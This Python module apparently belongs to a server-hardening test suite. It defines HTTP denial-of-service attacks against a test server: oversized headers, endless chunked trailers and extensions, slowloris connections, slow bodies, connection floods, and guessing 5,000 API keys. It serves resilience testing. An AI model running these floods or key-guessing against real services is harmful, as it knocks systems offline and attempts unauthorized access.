"""Attacks with connections, headers and framing. Most of them need no key."""

from __future__ import annotations

import asyncio
import time

from serving import ATTACKER_KEY, Setup
from wire import Battle, request

from catalogue.base import Attack

CROWD, GUESSERS = 2000, 10
HALF = b"GET /health HTTP/1.1\r\nHost: server\r\nX-Half: "
CHUNKED = "Transfer-Encoding: chunked\r\n"


def _one_header() -> bytes:
    return HALF + b"a" * (64 << 20)


def _small_headers() -> bytes:
    lines = b"".join(b"X-%d: %d\r\n" % (number, number) for number in range(20_000))
    return b"GET /health HTTP/1.1\r\nHost: server\r\n" + lines[: 300 << 10]


async def large_header(battle: Battle) -> None:
    await battle.crowd(4, lambda _: battle.ask(battle.payload))


async def many_headers(battle: Battle) -> None:
    await battle.hold(CROWD, battle.payload, b"X-More: 1\r\n", at_once=20)


def _chunked(number: int) -> bytes:
    """The head of a chunked request: every second one has a key, the others ask for a path without keys."""
    if number % 2:
        return request("/health", method="GET", key="", headers=CHUNKED)
    return request("/v1/chat/completions", headers=CHUNKED)


async def endless_trailers(battle: Battle) -> None:
    trailers = b"X-Trailer: aaaaaaaa\r\n" * 4000
    await battle.crowd(8, lambda number: battle.pour(_chunked(number) + b"2\r\n{}\r\n0\r\n", trailers))


async def endless_extensions(battle: Battle) -> None:
    extensions = b"extension=aaaaaaaa;" * 4000
    await battle.crowd(8, lambda number: battle.pour(_chunked(number) + b"2;", extensions))


async def half_headers(battle: Battle) -> None:
    await battle.hold(CROWD, HALF, b"a", pause=3.0)


async def slow_bodies(battle: Battle) -> None:
    """Send bodies one byte per second; a share of them to a route without keys, the others with a key."""
    number = 0

    async def drip(path: str, key: str) -> None:
        nonlocal number
        number += 1
        head = request(path, key=key, headers="Content-Length: 1000000\r\n")
        await battle.hold(100, head + b'{"a": "', b"a", pause=1.0)

    await asyncio.gather(
        *(drip("/health", "") for _ in range(5)),
        *(drip("/v1/chat/completions", "") for _ in range(5)),
        *(drip("/v1/chat/completions", ATTACKER_KEY) for _ in range(10)),
    )


async def idle(battle: Battle) -> None:
    await battle.hold(CROWD, b"")


async def connect_flood(battle: Battle) -> None:
    await battle.crowd(10, lambda _: battle.ask(b"", leave=True))


async def wrong_keys(battle: Battle) -> None:
    """Try 5,000 keys, evenly over the time: more would measure how fast a processor answers 401."""
    pause = GUESSERS * battle.seconds / 5000

    async def guess(number: int) -> None:
        due = time.monotonic() + pause
        await battle.ask(request("/v1/chat/completions", b"{}", key=f"guess-{number}"))
        await asyncio.sleep(max(0.0, due - time.monotonic()))

    await battle.crowd(GUESSERS, guess)


ATTACKS = [
    Attack(
        "header-64mib",
        "no key",
        "4 clients send one header of 64 MiB again and again",
        large_header,
        _one_header,
    ),
    Attack(
        "headers-300kib",
        "no key",
        "2,000 connections send 300 KiB of small headers each and do not end them",
        many_headers,
        _small_headers,
    ),
    Attack(
        "trailers", "no key", "8 clients send chunked bodies with trailers that never end", endless_trailers
    ),
    Attack(
        "chunk-extensions",
        "no key",
        "8 clients send chunked bodies with chunk extensions that never end",
        endless_extensions,
    ),
    Attack("slow-headers", "no key", "2,000 connections hold half a header (slow loris)", half_headers),
    Attack(
        "slow-bodies",
        "key",
        "2,000 connections send a body at 1 byte per second, half of them with a key",
        slow_bodies,
    ),
    Attack("idle", "no key", "2,000 connections send nothing", idle),
    Attack(
        "few-files",
        "no key",
        "2,000 connections hold half a header; the server may open 256 files only",
        half_headers,
        setup=Setup(files=256),
    ),
    Attack("connect-flood", "no key", "10 clients connect and leave, as fast as they can", connect_flood),
    Attack("wrong-keys", "no key", "10 clients guess 5,000 API keys", wrong_keys),
]
